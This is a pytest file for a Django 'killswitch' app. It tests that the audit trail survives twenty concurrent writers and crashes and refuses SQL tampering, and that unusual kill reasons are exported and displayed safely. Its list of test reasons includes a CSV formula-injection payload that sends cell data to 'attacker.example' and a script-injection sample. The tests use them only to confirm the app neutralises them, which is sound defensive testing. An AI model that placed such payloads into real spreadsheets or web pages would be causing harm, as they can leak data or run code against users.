"""The audit trail under twenty writers, crashes, tampering and odd input. On SQLite and on a real PostgreSQL."""

import contextlib
import csv
import html
import io
import json
import subprocess
import sys
import uuid
from collections import defaultdict
from collections.abc import Iterator
from decimal import Decimal
from itertools import groupby
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.db import DatabaseError, connection, transaction

from killswitch.access.roles import COMPLIANCE, give_role
from killswitch.audit.models import Entry, Kind
from killswitch.kills.decision import MAX_REASON
from killswitch.kills.models import Kill
from tests.conftest import ROOT, database_url, wait_for

from .conftest import LogIn, World
from .person import Person
from .postgresql import PostgreSQL, as_the_database, own_server
from .stack import Stack

VERIFIER = ROOT / "killswitch" / "audit" / "verify_export.py"
WRITERS = 20
APPENDS = 25


@pytest.fixture
def own_postgresql(request: pytest.FixtureRequest) -> Iterator[PostgreSQL | None]:
    """A server for the tests that are about PostgreSQL."""
    if request.node.callspec.params["stack"] != "postgresql":
        yield None
        return
    with own_server() as made:
        yield made


@pytest.fixture(params=["sqlite", "postgresql"])
def stack(request: pytest.FixtureRequest, transactional_db: None, own_postgresql: PostgreSQL | None) -> Iterator[Stack]:
    if own_postgresql is None:
        if connection.vendor != "sqlite":
            pytest.skip("SQLite has its turn where the tests run on it")
        made = Stack(database_url())
        yield made
        made.end()
        return
    made = Stack(own_postgresql.url)
    migrate = [sys.executable, "manage.py", "migrate", "--verbosity", "0"]
    subprocess.run(migrate, cwd=ROOT, env=made.environment, check=True)
    with as_the_database(own_postgresql.url):
        yield made
    made.end()


def append_at_once(world: World, *, dying: int = 0) -> None:
    command = [sys.executable, "-m", "tests.faults.appender", str(WRITERS), str(APPENDS), str(dying)]
    appender = world.stack.start("appender", command)
    wait_for(lambda: appender.exit_code is not None, "the writers", 120)
    assert "appended" in appender.said, appender.said


def appends_by_writer() -> dict[int, list[list[str]]]:
    """Return each writer's appends in the order of the trail, each with its parts."""
    found: dict[int, list[list[str]]] = defaultdict(list)
    sentences = Entry.objects.order_by("id").values_list("sentence", flat=True)
    for (writer, _), parts in groupby((text.split(":") for text in sentences), key=lambda text: (text[0], text[1])):
        found[int(writer)].append([":".join(part[1:]) for part in parts])
    return found


def whole(turn: int, size: int) -> list[str]:
    return [f"{turn}:{part}" for part in range(size)]


@pytest.mark.fault(
    22, what="20 processes append at once", seen="no fork and no gap; each append whole and in its order"
)
def test_twenty_processes_append_to_one_chain(world: World) -> None:
    append_at_once(world)
    found = appends_by_writer()
    assert found.keys() == set(range(WRITERS))
    for writer, appends in found.items():
        assert [len(parts) for parts in appends] == [int(parts[-1].split(":")[1]) + 1 for parts in appends]
        assert [whole(turn, len(parts)) for turn, parts in enumerate(appends, 1)] == appends, writer
        assert len(appends) == APPENDS
    writers = Entry.objects.order_by("id").values_list("actor_name", flat=True)
    turns = sum(1 for _ in groupby(writers))
    assert turns > 2 * WRITERS, "they did not run at once: this showed nothing"


@pytest.mark.fault(21, what="crash in the middle of an audit append", seen="nothing of it is there; no gap, verifies")
def test_writers_that_die_in_the_middle_leave_no_gap(world: World) -> None:
    append_at_once(world, dying=5)
    appends = {writer: len(found) for writer, found in appends_by_writer().items()}
    assert appends == {writer: APPENDS - (writer < 5) for writer in range(WRITERS)}
    # Whoever comes next goes on where the last one that lived ended.
    before = Entry.objects.count()
    append_at_once(world)
    assert Entry.objects.latest("id").id == Entry.objects.count() > before


@pytest.mark.fault(23, what="audit row edited, deleted, truncated, replaced, put in between", seen="refused")
def test_the_database_refuses_to_change_the_trail(world: World) -> None:
    append_at_once(world)
    columns = ", ".join(field.column for field in Entry._meta.concrete_fields)
    statements = [
        "UPDATE audit_entry SET sentence = 'nothing happened' WHERE id = 3",
        "UPDATE audit_entry SET hash = previous_hash",
        "DELETE FROM audit_entry WHERE id = 3",
        "DELETE FROM audit_entry WHERE id > 3",
        f"INSERT INTO audit_entry ({columns}) SELECT {columns.replace('id,', 'id + 100000,', 1)} FROM audit_entry",
    ]
    if connection.vendor == "postgresql":
        statements += ["TRUNCATE audit_entry", "TRUNCATE audit_entry CASCADE"]
    else:
        statements.append(f"REPLACE INTO audit_entry ({columns}) SELECT {columns} FROM audit_entry WHERE id = 3")
    for statement in statements:
        with pytest.raises(DatabaseError, match="append-only"), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(statement)


def reader(world: World, address: str) -> Person:
    user, _ = User.objects.get_or_create(username="compliance")
    give_role(user, COMPLIANCE)
    world.people.append(Person(address, user))
    return world.people[-1]


@pytest.mark.fault(29, what="a reader posts a kill", seen="403 and an audit entry; nothing is sent")
def test_a_reader_who_posts_a_kill_is_refused_and_recorded(world: World) -> None:
    world.stack.broker("--accounts", "0")
    account = world.account(orders=3)
    compliance = reader(world, world.stack.web())
    form = {"account": str(account), "idempotency_key": "12345678-9abc-def0-1234-56789abcdef0"}
    answer = compliance.send(form | compliance.token())
    assert (answer.status_code, Kill.objects.count(), world.deletes()) == (403, 0, [])
    assert "NOT SENT" in answer.text
    denied = Entry.objects.get(kind=Kind.DENIED)
    assert (denied.actor_name, denied.sentence) == ("compliance", "compliance may not engage a kill")
    assert denied.data["fields"]["account"] == [str(account)]


ODD_REASONS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"see here")',
    "<script>alert('x')</script>",
    "x" * MAX_REASON,
    "🛑 أوقف 停止 \u202eevil\u2028line",
    'a "quoted", comma\r\nand a line',
]


@pytest.mark.fault(
    30,
    what="reason `=HYPERLINK(…)`, `<script>`, 10,000 characters, emoji, NUL",
    seen="quoted in CSV, escaped on the page, whole in JSON Lines, or a clear error; the export verifies",
)
def test_whatever_the_reason_is_it_is_kept_whole_and_does_no_harm(world: World, log_in: LogIn, tmp_path: Path) -> None:
    world.stack.broker("--accounts", "0")
    world.stack.redis()
    world.stack.worker()
    address = world.stack.web()
    desk, compliance = log_in(address, "desk"), reader(world, address)
    account = world.account(orders=1)
    kills = [world.click(desk, desk.open_form(account=account) | {"reason": reason}) for reason in ODD_REASONS]
    refused = desk.send(desk.open_form(account=account) | {"reason": "a\x00b"})
    assert (refused.status_code, Kill.objects.count()) == (400, len(ODD_REASONS))
    assert "has a NUL character" in refused.text
    for kill in kills:
        world.ended(kill)

    asked = dict(zip(kills, ODD_REASONS, strict=True))
    lines = tmp_path / "trail.jsonl"
    lines.write_bytes(compliance.get("/audit/export.jsonl").content)
    read = [json.loads(line) for line in lines.read_bytes().splitlines()]
    told = {uuid.UUID(entry["kill_id"]): entry["data"]["reason"] for entry in read if entry["kind"] == "kill.engaged"}
    assert told == asked
    checked = subprocess.run([sys.executable, VERIFIER, lines], capture_output=True, text=True, check=False)
    assert checked.returncode == 0, checked.stdout + checked.stderr

    rows = list(
        csv.DictReader(io.StringIO(compliance.get("/audit/export.csv").content.decode("utf-8-sig"), newline=""))
    )
    engaged = {
        uuid.UUID(row["kill_id"]): json.loads(row["data"])["reason"] for row in rows if row["kind"] == "kill.engaged"
    }
    assert engaged == asked
    risky = [cell for row in rows for cell in row.values() if cell[:1] in set("=+-@\t\r") and not is_number(cell)]
    assert risky == []

    for kill, reason in asked.items():
        page = desk.kill_page(kill)
        assert "<script>alert" not in page
        assert html.escape(reason).replace("\r\n", "\n")[:300] in page.replace("\r\n", "\n")
    entry = next(entry["sequence"] for entry in read if "alert" in entry["sentence"])
    assert "<script>alert" not in compliance.get(f"/audit/{entry}/").text


def is_number(cell: str) -> bool:
    with contextlib.suppress(ArithmeticError):
        return Decimal(cell).is_finite()
    return False
